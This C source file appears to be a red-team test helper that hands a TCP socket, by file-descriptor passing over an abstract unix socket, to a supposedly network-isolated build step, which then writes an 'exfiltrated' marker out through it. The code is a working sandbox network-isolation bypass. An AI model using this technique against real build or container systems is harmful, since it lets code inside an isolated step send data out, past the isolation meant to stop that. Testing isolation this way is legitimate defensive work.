// Another local user's helper (run unprivileged): it connects a TCP socket to
// argv[2] (IP:PORT) and hands it to whoever connects to the abstract unix
// socket argv[1] (shared by every process on the host's network namespace,
// RUN steps on the host network included). Run as "sockfd take NAME [HOW]", it
// is the step's side: it takes the socket and writes to it with write(2), or
// with HOW: writev (as musl's stdio does), sendfile (from its own binary) or
// splice (from a pipe).
#define _GNU_SOURCE /* splice */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

static socklen_t abstract(struct sockaddr_un *a, const char *name)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	size_t n = strlen(name);
	memcpy(a->sun_path + 1, name, n);
	return sizeof(sa_family_t) + 1 + n;
}

static int take(const char *name, const char *how)
{
	struct sockaddr_un a;
	socklen_t al = abstract(&a, name);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, al) < 0) {
		perror("RT9 connect helper");
		return 1;
	}
	char b;
	struct iovec iov = {.iov_base = &b, .iov_len = 1};
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} u;
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf)};
	if (recvmsg(s, &m, 0) <= 0 || !CMSG_FIRSTHDR(&m)) {
		perror("RT9 recvmsg");
		return 1;
	}
	int fd;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int));
	static const char msg[] = "RT9 SOCKFD exfiltrated\n";
	ssize_t n = -1;
	if (!strcmp(how, "write")) {
		n = write(fd, msg, sizeof(msg) - 1);
	} else if (!strcmp(how, "writev")) {
		struct iovec v[2] = {{.iov_base = (void *)msg, .iov_len = 4},
				     {.iov_base = (void *)(msg + 4), .iov_len = sizeof(msg) - 5}};
		n = writev(fd, v, 2);
	} else if (!strcmp(how, "sendfile")) {
		int in = open("/proc/self/exe", O_RDONLY);
		off_t off = 0;
		n = in < 0 ? -1 : sendfile(fd, in, &off, 16);
	} else if (!strcmp(how, "splice")) {
		int p[2];
		if (pipe(p) == 0 && write(p[1], msg, sizeof(msg) - 1) > 0)
			n = splice(p[0], NULL, fd, NULL, sizeof(msg) - 1, 0);
	}
	if (n < 0) {
		perror("RT9 write");
		return 1;
	}
	printf("RT9 SOCKFD wrote to the passed socket with %s\n", how);
	fflush(stdout);
	sleep(1);
	return 0;
}

int main(int argc, char **argv)
{
	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "take"))
		return take(argv[2], argc == 4 ? argv[3] : "write");
	if (argc != 3) {
		fprintf(stderr, "usage: sockfd NAME IP:PORT | sockfd take NAME [write|writev|sendfile|splice]\n");
		return 2;
	}
	char host[64];
	const char *c = strrchr(argv[2], ':');
	if (!c || (size_t)(c - argv[2]) >= sizeof(host))
		return 2;
	memcpy(host, argv[2], c - argv[2]);
	host[c - argv[2]] = 0;
	struct sockaddr_in t = {.sin_family = AF_INET, .sin_port = htons(atoi(c + 1))};
	inet_pton(AF_INET, host, &t.sin_addr);
	struct sockaddr_un a;
	socklen_t al = abstract(&a, argv[1]);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(s, (struct sockaddr *)&a, al) < 0 || listen(s, 4) < 0) {
		perror("RT9 bind");
		return 1;
	}
	printf("RT9 SOCKFD ready uid %d\n", getuid());
	fflush(stdout);
	for (;;) {
		int cl = accept(s, NULL, NULL);
		if (cl < 0)
			continue;
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(fd, (struct sockaddr *)&t, sizeof(t)) < 0) {
			perror("RT9 helper connect");
			close(cl);
			continue;
		}
		char b = 'x';
		struct iovec iov = {.iov_base = &b, .iov_len = 1};
		union {
			char buf[CMSG_SPACE(sizeof(int))];
			struct cmsghdr align;
		} u;
		struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf)};
		struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
		cm->cmsg_level = SOL_SOCKET;
		cm->cmsg_type = SCM_RIGHTS;
		cm->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(cm), &fd, sizeof(int));
		sendmsg(cl, &m, 0);
		close(fd);
		close(cl);
	}
}
